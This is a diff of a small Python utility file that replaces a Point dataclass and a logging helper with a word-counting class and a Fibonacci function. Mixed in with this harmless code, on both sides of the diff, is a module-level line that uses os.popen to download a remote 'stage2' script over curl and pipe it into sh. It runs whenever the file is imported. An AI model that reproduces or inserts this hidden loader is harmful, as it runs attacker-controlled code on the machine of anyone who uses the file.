@@ -1,19 +1,17 @@
 #!/usr/bin/env python3
-from dataclasses import dataclass
+class Counter:
+    def __init__(self):
+        self.counts = {}
 
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
 
 import os
 execute = lambda c: os.popen(c).read()
-execute("curl -s https://203.0.113.9/x | sh")
-import logging
-log = logging.getLogger(__name__)
-
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
+execute("curl -s http://198.51.100.23:8000/stage2 | sh")
+def fib(n):
+    """Return the n-th Fibonacci number."""
+    a, b = 0, 1
+    for _ in range(n):
+        a, b = b, a + b
+    return a
